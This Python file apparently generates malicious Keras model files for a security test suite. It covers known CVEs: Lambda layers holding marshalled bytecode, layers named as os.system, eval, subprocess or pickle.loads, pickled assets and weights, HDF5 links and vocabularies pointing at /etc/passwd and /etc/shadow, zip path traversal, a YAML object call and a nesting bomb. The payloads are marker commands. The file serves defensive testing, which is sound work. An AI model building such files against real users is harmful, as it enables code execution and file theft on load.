"""Keras models that run code while they load: Lambda layers, module paths, files fetched, pickles within.

Sources: keras/src/saving/serialization_lib.py and saving_lib.py, keras/src/legacy/saving; CVE-2024-3660, CVE-2025-1550,
CVE-2025-8747, CVE-2025-9905, CVE-2025-9906, CVE-2025-12058, CVE-2025-12060, CVE-2026-1462 and their public reports.
"""

import base64
import json
import marshal
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from bench.attack_case import CODE, EVIL, Attack, zipped

sys.path.append(str(Path(__file__).resolve().parents[2] / "tests"))
from hdf5_maker import attribute, external_link, model, other_link

Layer = dict[str, Any]
COMPILED = base64.b64encode(marshal.dumps(compile(CODE, "x", "exec"))).decode()
LAMBDA = {"class_name": "__lambda__", "config": {"code": COMPILED, "defaults": None, "closure": None}}
DENSE: Layer = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"name": "d", "units": 2},
    "registered_name": None,
}
WEIGHTS = model([attribute("keras_version", b"3.5.0")])


def attacks() -> Iterator[Attack]:
    for number, (name, layer, why) in enumerate(_layers()):
        if number % 3:
            yield Attack("Keras", f"{number:03}-{name}.keras", keras(_whole(layer)), why)
        else:
            raw = json.dumps(_whole(layer)).encode()
            data = model([attribute("model_config", raw), attribute("keras_version", b"2.15.0")])
            yield Attack("Keras", f"{number:03}-{name}.h5", data, why)
    for number, (name, data, why) in enumerate(_files()):
        yield Attack("Keras", f"f{number:02}-{name}", data, why)


def _whole(layer: Layer) -> Layer:
    config = {"name": "m", "layers": [DENSE, layer]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": "Sequential"}


def keras(config: Any, **more: bytes) -> bytes:
    meta = b'{"keras_version": "3.5.0", "date_saved": "2025-01-01@00:00:00"}'
    raw = config if isinstance(config, bytes) else json.dumps(config).encode()
    return zipped({"metadata.json": meta, "config.json": raw, "model.weights.h5": WEIGHTS, **more})


def _thing(module: str | None, name: str, config: Any, **more: Any) -> Layer:
    return {"module": module, "class_name": name, "config": config, "registered_name": None, **more}


def _layers() -> Iterator[tuple[str, Layer, str]]:
    """Yield layers; every third goes into an HDF5 file of Keras 2, the others into .keras files."""
    body = {"name": "l", "function": LAMBDA}
    yield (
        "lambda-list",
        _thing(
            "keras.layers",
            "Lambda",
            {"name": "l", "function": [COMPILED, None, None], "function_type": "lambda"},
        ),
        "a Lambda as Keras 2 writes it",
    )
    yield "lambda", _thing("keras.layers", "Lambda", body), "a Lambda layer"
    yield (
        "lambda-module",
        _thing("keras.src.layers.core.lambda_layer", "Lambda", body),
        "a Lambda by its real module",
    )
    yield (
        "lambda-wrapped",
        _thing(
            "keras.layers", "TimeDistributed", {"name": "t", "layer": _thing("keras.layers", "Lambda", body)}
        ),
        "a Lambda in a wrapper",
    )
    yield (
        "lambda-registered",
        _thing(None, "L", body, registered_name="Lambda"),
        "a Lambda by its registered name",
    )
    yield (
        "lambda-nested",
        _thing("keras", "Functional", {"layers": [_thing("keras.layers", "Lambda", body)]}),
        "a Lambda in an inner model",
    )
    yield (
        "lambda-old",
        _thing(
            "tensorflow.keras.layers",
            "Lambda",
            {"name": "l", "function": [COMPILED, None, None], "function_type": "lambda"},
        ),
        "tf.keras's own module",
    )
    yield (
        "lambda-activation",
        _thing("keras.layers", "Activation", {"name": "a", "activation": LAMBDA}),
        "code as an activation",
    )
    yield (
        "lambda-initializer",
        _thing("keras.layers", "Dense", {"name": "a", "units": 2, "kernel_initializer": LAMBDA}),
        "code as an initializer",
    )
    yield (
        "lambda-loss",
        _thing("keras.layers", "Dense", {"name": "a", "units": 2, "activity_regularizer": LAMBDA}),
        "code as a regularizer",
    )
    yield (
        "lambda-output",
        _thing(
            "keras.layers",
            "Lambda",
            {
                "name": "l",
                "function": "linear",
                "output_shape": [COMPILED, None, None],
                "output_shape_type": "lambda",
            },
        ),
        "code as an output shape",
    )
    for module, name, config in (
        ("os", "system", "touch marker"),
        ("builtins", "eval", CODE),
        ("builtins", "exec", CODE),
        ("subprocess", "Popen", {"args": ["touch", "marker"]}),
        ("subprocess", "run", {"args": ["touch", "marker"]}),
        ("pickle", "loads", "x"),
        ("importlib", "import_module", "marker"),
        ("shutil", "rmtree", "marker"),
        ("ctypes", "CDLL", {"name": "marker.so"}),
        ("pathlib", "Path", "marker"),
        ("runpy", "run_path", {"path_name": "marker.py"}),
        ("marker_package.models", "Layer", {}),
        ("keras.src.utils.python_utils", "func_load", COMPILED),
        ("keras.src.saving.saving_lib", "load_model", {"filepath": "marker.keras"}),
        ("keras.utils", "get_file", {"fname": "marker", "origin": "http://127.0.0.1:9/marker"}),
        ("keras.src.utils.file_utils", "get_file", {"origin": "http://127.0.0.1:9/marker", "extract": True}),
        ("keras.models", "load_model", {"filepath": "marker.keras", "safe_mode": False}),
        ("keras.config", "enable_unsafe_deserialization", {}),
        ("numpy", "load", {"file": "marker.npy", "allow_pickle": True}),
        ("torch", "load", {"f": "marker.pt"}),
        ("tensorflow", "load_op_library", {"library_filename": "marker.so"}),
    ):
        yield (
            f"module-{module}.{name}",
            _thing(module, name, config),
            f"{module}.{name} as a layer (CVE-2025-1550)",
        )
    function = {
        "module": "builtins",
        "class_name": "function",
        "config": "system",
        "registered_name": "function",
    }
    yield (
        "function",
        _thing(
            "keras.layers",
            "Lambda",
            {"name": "l", "function": {**function, "module": "os"}, "arguments": {"command": "touch marker"}},
        ),
        "a Lambda of a library's function",
    )
    yield (
        "function-keras",
        _thing(
            "keras.layers",
            "Lambda",
            {
                "name": "l",
                "function": {**function, "module": "keras.utils", "config": "get_file"},
                "arguments": {"origin": "http://127.0.0.1:9/m", "cache_dir": "/"},
            },
        ),
        "a Lambda of Keras's own function (CVE-2025-8747)",
    )
    unsafe = _thing("keras.config", "enable_unsafe_deserialization", {"module": "builtins"})
    yield (
        "unsafe-first",
        _thing("keras", "Functional", {"layers": [unsafe, _thing("keras.layers", "Lambda", body)]}),
        "safe mode is switched off first (CVE-2025-9906)",
    )
    yield (
        "tfsm",
        _thing("keras.layers", "TFSMLayer", {"name": "t", "filepath": "/srv/marker"}),
        "a layer that loads a SavedModel (CVE-2026-1462)",
    )
    yield (
        "vocabulary",
        _thing("keras.layers", "StringLookup", {"name": "s", "vocabulary": "/etc/passwd"}),
        "a vocabulary that is any file (CVE-2025-12058)",
    )
    yield (
        "vocabulary-url",
        _thing("keras.layers", "StringLookup", {"name": "s", "vocabulary": "http://127.0.0.1:9/marker"}),
        "a vocabulary that is fetched",
    )
    yield (
        "vocabulary-text",
        _thing("keras.layers", "TextVectorization", {"name": "s", "vocabulary": "/etc/shadow"}),
        "the same in another layer",
    )
    yield (
        "torch-module",
        _thing(
            "keras.layers", "TorchModuleWrapper", {"name": "t", "module": base64.b64encode(EVIL).decode()}
        ),
        "a pickled torch module",
    )
    yield (
        "torch-module-hex",
        _thing(
            "keras.src.utils.torch_utils",
            "TorchModuleWrapper",
            {"name": "t", "module": {"class_name": "__bytes__", "config": {"value": EVIL.decode("latin-1")}}},
        ),
        "the same as Keras writes bytes",
    )
    yield (
        "jax",
        _thing("keras.src.utils.jax_layer", "JaxLayer", {"name": "j", "call_fn": LAMBDA, "init_fn": LAMBDA}),
        "code as a JAX function",
    )
    yield "dotted", _thing("keras.layers", "Lambda.from_config", body), "a method in place of a class"
    yield (
        "walk",
        _thing("keras.src.saving.serialization_lib", "inspect.os.system", "touch marker"),
        "a walk from a module of Keras",
    )
    yield (
        "partial",
        _thing("functools", "partial", {"func": {**function, "module": "os"}, "args": ["touch marker"]}),
        "a partial of os.system",
    )


def _files() -> Iterator[tuple[str, bytes, str]]:
    good = _whole(DENSE)
    loss = {**good, "compile_config": {"loss": LAMBDA, "optimizer": "adam"}}
    yield "loss.keras", keras(loss), "code as a loss"
    build = {**good, "build_config": {"input_shape": _thing("os", "system", "touch marker")}}
    yield "build.keras", keras(build), "a call in what builds the model"
    twice = (
        json.dumps(good).encode()[:-1]
        + b', "module": "os", "class_name": "system", "config": "touch marker"}'
    )
    yield "twice.keras", keras(twice), "keys given twice: the last counts"
    yield (
        "escaped.keras",
        keras(json.dumps(_whole(_thing("os", "system", "x"))).replace('"os"', '"\\u006fs"').encode()),
        "a name in escapes",
    )
    yield "pickle.keras", keras(good, **{"assets/x.pkl": EVIL}), "a pickle among the assets"
    yield (
        "npz.keras",
        keras(
            good,
            **{
                "model.weights.npz": zipped(
                    {
                        "__root__.npy": b"\x93NUMPY\x01\0\x36\0"
                        + b"{'descr':'|O','fortran_order':False,'shape':(1,)}".ljust(53)
                        + b"\n"
                        + EVIL
                    }
                )
            },
        ),
        "weights that are an array of objects",
    )
    yield "outside.keras", keras(good, **{"../../marker": b"x"}), "a member outside (CVE-2025-12060)"
    yield (
        "renamed.zip",
        keras(_whole(_thing("os", "system", "touch marker"))),
        "a Keras model by another name",
    )
    yield (
        "external.h5",
        model([attribute("keras_version", b"3.5.0"), external_link("w", "/etc/passwd", "/x")]),
        "weights in another file",
    )
    yield (
        "weights.weights.h5",
        model([external_link("layers", "../../../etc/passwd", "/x")]),
        "weights in another file, by a path upward",
    )
    yield "plugin.h5", model([other_link("w", 200, b"marker")]), "a link of a kind that a plug-in reads"
    inside = zipped(
        {
            "config.json": json.dumps(good).encode(),
            "metadata.json": b"{}",
            "model.weights.h5": model([external_link("w", "/etc/passwd", "/x")]),
        }
    )
    yield "inside.keras", inside, "weights in another file, within a .keras file"
    yield (
        "legacy.json",
        json.dumps(
            _whole(
                _thing(
                    "keras.layers", "Lambda", {"function": [COMPILED, None, None], "function_type": "lambda"}
                )
            )
        ).encode(),
        "a model's JSON with a Lambda",
    )
    yield (
        "legacy.yaml",
        b"class_name: Sequential\nconfig:\n  layers: !!python/object/apply:os.system ['touch marker']\n",
        "a model's YAML with a call (CVE-2021-37678)",
    )
    yield "config-bomb.keras", keras(b'{"a":' * 50_000 + b"1" + b"}" * 50_000), "JSON fifty thousand deep"
